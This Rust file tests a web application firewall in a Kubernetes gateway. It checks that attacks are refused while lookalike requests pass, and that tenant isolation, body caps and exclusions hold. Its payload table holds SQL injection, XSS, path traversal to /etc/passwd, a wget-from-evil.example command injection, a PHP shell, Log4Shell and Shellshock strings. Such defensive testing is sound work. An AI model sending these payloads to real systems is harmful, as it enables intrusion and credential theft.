//! The firewall, by traffic: attacks are refused and their ordinary twins are not, whatever a client says of whose request it is,
//! and what becomes of requests while the firewall is away is what the class says.

use std::time::Duration;

use hyper::Method;
use k8s_openapi::api::apps::v1::Deployment;
use kube::api::{Api, Patch, PatchParams};
use octroi_tests::probe::rate::{self, Connections, counted};
use octroi_tests::probe::{Ask, Outcome, Probe};
use octroi_tests::stage::{Guest, LIMIT, Stage, until};
use octroi_tests::{Error, Result};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use crate::alone_on_stage;
use crate::sample;

/// What is sent.
enum Sent {
    /// The query of a GET.
    Query(&'static str),
    /// The body of a form.
    Form(&'static str),
    /// A body in JSON.
    Json(&'static str),
    /// A header and its value.
    Header(&'static str, &'static str),
}
use Sent::{Form, Header, Json, Query};

/// An attack, and a request that looks alike and is none.
const TWINS: [(&str, Sent, Sent); 16] = [
    ("SQL, a tautology", Query("id=1%27%20OR%201%3D1--%20-"), Query("id=1%20or%20two")),
    (
        "SQL, a union",
        Query("q=1%20UNION%20SELECT%20password%20FROM%20users"),
        Query("q=the%20union%20of%20two%20cities"),
    ),
    ("SQL, in a form", Form("name=x%27%3B%20DROP%20TABLE%20users%3B--"), Form("name=O%27Brien")),
    ("SQL, in JSON", Json(r#"{"name":"1' OR '1'='1"}"#), Json(r#"{"name":"it's one or two"}"#)),
    ("a script", Query("q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), Query("q=the%20script%20of%20a%20play")),
    ("a handler", Query("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"), Query("q=an%20image%20on%20error%20pages")),
    ("a script in JSON", Json(r#"{"bio":"<script>fetch('//x')</script>"}"#), Json(r#"{"bio":"I write scripts"}"#)),
    ("a path upwards", Query("file=..%2F..%2F..%2Fetc%2Fpasswd"), Query("file=docs%2Freadme.txt")),
    ("a file of the system", Query("f=%2Fetc%2Fshadow"), Query("f=shadow.png")),
    ("a shell's command", Query("host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"), Query("host=example.com")),
    ("a command in a form", Form("ip=%60id%60%3Bwget%20http%3A%2F%2Fevil.example%2Fx.sh"), Form("ip=192.0.2.7")),
    ("PHP", Query("p=%3C%3Fphp%20system(%24_GET%5B1%5D)%3B%3F%3E"), Query("p=php%20lessons")),
    ("a remote file", Query("page=http%3A%2F%2F192.0.2.66%2Fshell.txt%3F"), Query("page=2")),
    ("Log4Shell", Header("x-api-version", "${jndi:ldap://192.0.2.66/a}"), Header("x-api-version", "2026-11-01")),
    ("Shellshock", Header("user-agent", "() { :;}; /bin/bash -c id"), Header("referer", "https://example.com/a")),
    ("a scanner", Header("user-agent", "sqlmap/1.8"), Header("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")),
];
const ATTACK: &str = "/?id=1%27%20OR%201%3D1--%20-";
/// Another attack, for a parameter that is excluded.
const LESSON: &str = "id=1%27%20OR%20%271%27%3D%271";
const BODY_KIB: usize = 1024;
const PER_SECOND: u32 = 20;
const RUN: Duration = Duration::from_secs(20);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_stop_at_a_shared_edge_and_the_firewall_is_each_tenants_own() {
    alone_on_stage("waf", async |stage| {
        let block = stage.class("c", |spec| spec["waf"] = json!({"bodyKiB": BODY_KIB})).await?;
        let detect = stage.class("d", |spec| spec["waf"] = json!({"allowDetect": true, "failOpen": true})).await?;
        let a = arrived(stage, stage.tenant(&block, "a", |_| {}).await?).await?;
        let mut b =
            arrived(stage, stage.tenant(&detect, "b", |spec| spec["waf"] = json!({"mode": "Detect"})).await?).await?;
        stops_attacks_and_nothing_else(stage, &a).await?;
        assert_eq!(code(stage, &b.ask(&b.www(), ATTACK).await?).await, Outcome::Code(200), "only reported");
        nobody_borrows_anothers_firewall(stage, &a, &b).await?;
        takes_bodies_up_to_the_cap(stage, &a).await?;
        nothing_is_lost_while_profiles_and_pods_change(stage, &a, &mut b).await?;
        answers_as_its_class_says_while_the_firewall_is_away(stage, &a, &b).await
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_stop_at_an_edge_of_the_tenants_own_and_exclusions_are_narrow() {
    alone_on_stage("waf-own", async |stage| {
        let class = stage.class("c", |spec| spec["gateway"]["mode"] = json!("Dedicated")).await?;
        let excluded = json!({"ruleId": 942_100, "pathPrefix": "/course", "parameter": "id", "reason": "a course on SQL", "expires": "2099-12-31"});
        let over = json!({"ruleId": 942_100, "pathPrefix": "/old", "parameter": "id", "reason": "a course that ended", "expires": "2026-01-01"});
        let spec = json!({"exclusions": [excluded, over], "anomalyThreshold": 5});
        let guest = arrived(stage, stage.tenant(&class, "a", |tenant| tenant["waf"] = spec).await?).await?;
        stops_attacks_and_nothing_else(stage, &guest).await?;
        exclusions_hold_where_they_say(stage, &guest).await
    })
    .await;
}

async fn arrived<'a>(stage: &Stage, guest: Guest<'a>) -> Result<Guest<'a>> {
    guest.deploy_all(&sample::echo(&guest.name)).await?;
    guest.deploy(&sample::route(&guest.name, "www", &[guest.www()])).await?;
    stage.probe.until_status(&guest.ask(&guest.www(), "/").await?, 200, LIMIT).await?;
    Ok(guest)
}

async fn code(stage: &Stage, ask: &Ask) -> Outcome {
    Outcome::of(&stage.probe.clone().timeout(LIMIT).ask(ask).await)
}

async fn sent(guest: &Guest<'_>, sent: &Sent) -> Result<Ask> {
    let post = async |kind: &str, body: &'static str| -> Result<Ask> {
        let ask = guest.ask(&guest.www(), "/").await?.method(Method::POST);
        Ok(ask.header("content-type", kind).body(body))
    };
    match sent {
        Query(query) => guest.ask(&guest.www(), &format!("/?{query}")).await,
        Form(body) => post("application/x-www-form-urlencoded", body).await,
        Json(body) => post("application/json", body).await,
        Header(name, value) => Ok(guest.ask(&guest.www(), "/").await?.header(name, value)),
    }
}

async fn stops_attacks_and_nothing_else(stage: &Stage, guest: &Guest<'_>) -> Result<()> {
    let mut wrong = Vec::new();
    for (name, attack, twin) in &TWINS {
        let seen = (code(stage, &sent(guest, attack).await?).await, code(stage, &sent(guest, twin).await?).await);
        if seen != (Outcome::Code(403), Outcome::Code(200)) {
            wrong.push(format!("{name}: {}, its twin {}", seen.0, seen.1));
        }
    }
    assert!(wrong.is_empty(), "{}: {wrong:?}", guest.name);
    Ok(())
}

/// `lax` only reports. Whatever a client says to be taken for it, an attack on `strict` never arrives.
async fn nobody_borrows_anothers_firewall(stage: &Stage, strict: &Guest<'_>, lax: &Guest<'_>) -> Result<()> {
    let attack = strict.ask(&strict.www(), ATTACK).await?;
    let forged = [
        ("x-octroi-tenant", lax.name.clone()),
        ("x-forwarded-host", lax.www()),
        ("x-envoy-original-host", lax.www()),
        ("xds.route_name", format!("httproute/{}/www/rule/0", lax.name)),
        ("xds.filter_chain_name", format!("gw-{0}/{0}/https", lax.name)),
        ("x-envoy-decorator-operation", lax.name.clone()),
    ];
    for (name, value) in forged {
        let outcome = code(stage, &attack.clone().header(name, &value)).await;
        // Envoy Gateway's edge resets a stream for an underscore in a header's name.
        let is_refused = outcome == Outcome::Code(403) || name.contains('_') && outcome == Outcome::NoAnswer;
        assert!(is_refused, "{name}: {outcome}");
    }
    let through_the_other = lax.ask(&lax.www(), ATTACK).await?.header("host", &strict.www());
    for protocol in ["h2", "http/1.1"] {
        let probe = Probe::offering(&stage.authority, &[protocol])?;
        let outcome = Outcome::of(&probe.ask(&through_the_other).await);
        println!("an attack on {} by {protocol} with the other's server name: {outcome}", strict.name);
        assert!(matches!(outcome, Outcome::Code(403 | 404 | 421)), "{protocol}: {outcome}");
    }
    Ok(())
}

async fn takes_bodies_up_to_the_cap(stage: &Stage, guest: &Guest<'_>) -> Result<()> {
    let post = async |size: usize, kind: &str| -> Result<Outcome> {
        let body = format!("text={}", "a".repeat(size - "text=".len()));
        let ask = guest.ask(&guest.www(), "/").await?.method(Method::POST).header("content-type", kind).body(body);
        Ok(code(stage, &ask).await)
    };
    let (form, cap) = ("application/x-www-form-urlencoded", BODY_KIB * 1024);
    assert_eq!((post(cap, form).await?, post(cap + 1, form).await?), (Outcome::Code(200), Outcome::Code(413)));
    assert_eq!(post(3 * cap, "application/octet-stream").await?, Outcome::Code(413));
    Ok(())
}

/// Requests of both tenants all the while: exclusions come and go, the pods are replaced.
async fn nothing_is_lost_while_profiles_and_pods_change(stage: &Stage, a: &Guest<'_>, b: &mut Guest<'_>) -> Result<()> {
    let (good, attack, other) =
        (a.ask(&a.www(), "/").await?, a.ask(&a.www(), ATTACK).await?, b.ask(&b.www(), "/").await?);
    let stop = CancellationToken::new();
    let run = |ask: &Ask| {
        let (probe, ask, stop) = (stage.probe.clone(), ask.clone(), stop.clone());
        async move { rate::run(&probe, &ask, PER_SECOND, Connections::Kept, RUN, &stop).await }
    };
    let meanwhile = async {
        for day in 1..=5 {
            let exclusion = json!({"ruleId": 942_100, "pathPrefix": "/x", "parameter": "id", "reason": "a test", "expires": format!("2099-01-{day:02}")});
            b.change(|spec| spec["waf"] = json!({"mode": "Detect", "exclusions": [exclusion]})).await?;
        }
        restart(stage).await
    };
    let (good, attack, other, changed) = tokio::join!(run(&good), run(&attack), run(&other), meanwhile);
    changed?;
    for (run, wanted) in [(good, 200), (attack, 403), (other, 200)] {
        println!("while the firewall's profiles and pods change: {}", counted(&run.histogram()));
        assert_eq!(run.failed(wanted), 0, "{}: {:?}", counted(&run.histogram()), run.failures);
    }
    Ok(())
}

async fn answers_as_its_class_says_while_the_firewall_is_away(
    stage: &Stage,
    closed: &Guest<'_>,
    open: &Guest<'_>,
) -> Result<()> {
    let replicas = scale(stage, None).await?;
    scale(stage, Some(0)).await?;
    let away = async {
        let to_closed = closed.ask(&closed.www(), "/").await?;
        let refused = stage.probe.until(&to_closed, LIMIT, "code 500 or 503", |answer| answer.code >= 500).await?;
        println!("without the firewall, a class that fails closed answers {}", refused.answer.code);
        let attack = code(stage, &closed.ask(&closed.www(), ATTACK).await?).await;
        assert!(matches!(attack, Outcome::Code(500..=504)), "{attack}");
        stage.probe.until_status(&open.ask(&open.www(), "/").await?, 200, LIMIT).await.map(drop)
    };
    let seen = away.await;
    scale(stage, Some(replicas)).await?;
    seen?;
    stage.probe.until_status(&closed.ask(&closed.www(), "/").await?, 200, LIMIT).await?;
    stage.probe.until_status(&closed.ask(&closed.www(), ATTACK).await?, 403, LIMIT).await.map(drop)
}

async fn exclusions_hold_where_they_say(stage: &Stage, guest: &Guest<'_>) -> Result<()> {
    let ask = async |path: &str| -> Result<Outcome> { Ok(code(stage, &guest.ask(&guest.www(), path).await?).await) };
    assert_eq!(ask(&format!("/course/7?{LESSON}")).await?, Outcome::Code(200));
    for path in [
        "/",
        "/courses",
        "/old",
        "/course/../admin",
        "/course/%2e%2e/admin",
        "/course;x/../admin",
        "/course%2f..%2fadmin",
    ] {
        let outcome = ask(&format!("{path}?{LESSON}")).await?;
        assert!(matches!(outcome, Outcome::Code(403 | 400 | 307)), "{path}: {outcome}");
    }
    let other_parameter = ask(&format!("/course/7?q={}", LESSON.trim_start_matches("id="))).await?;
    assert_eq!(other_parameter, Outcome::Code(403));
    Ok(())
}

fn firewall(stage: &Stage) -> Api<Deployment> {
    Api::namespaced(stage.client.clone(), "octroi-gateways")
}

/// How many pods it has; as many as are asked for, once they serve.
async fn scale(stage: &Stage, replicas: Option<i32>) -> Result<i32> {
    let api = firewall(stage);
    let what = "scaling the firewall";
    if let Some(replicas) = replicas {
        let patch = json!({"spec": {"replicas": replicas}});
        api.patch_scale("octroi-waf", &PatchParams::default(), &Patch::Merge(patch))
            .await
            .map_err(Error::kube(what))?;
    }
    until(what, LIMIT, async || {
        let now = api.get("octroi-waf").await.map_err(Error::kube(what))?;
        let wanted = now.spec.as_ref().and_then(|spec| spec.replicas).unwrap_or_default();
        let status = now.status.unwrap_or_default();
        let there = (status.ready_replicas.unwrap_or_default(), status.replicas.unwrap_or_default());
        Ok(if there == (wanted, wanted) { Ok(wanted) } else { Err(format!("{there:?} of {wanted}")) })
    })
    .await
}

async fn restart(stage: &Stage) -> Result<()> {
    let api = firewall(stage);
    let what = "a restart of the firewall";
    api.restart("octroi-waf").await.map_err(Error::kube(what))?;
    until(what, LIMIT, async || {
        let now: Value =
            serde_json::to_value(api.get("octroi-waf").await.map_err(Error::kube(what))?).unwrap_or_default();
        let status = &now["status"];
        let is_new = status["observedGeneration"] == now["metadata"]["generation"]
            && status["updatedReplicas"] == now["spec"]["replicas"]
            && status["replicas"] == now["spec"]["replicas"]
            && status["readyReplicas"] == now["spec"]["replicas"];
        Ok(if is_new { Ok(()) } else { Err(status.to_string()) })
    })
    .await
}
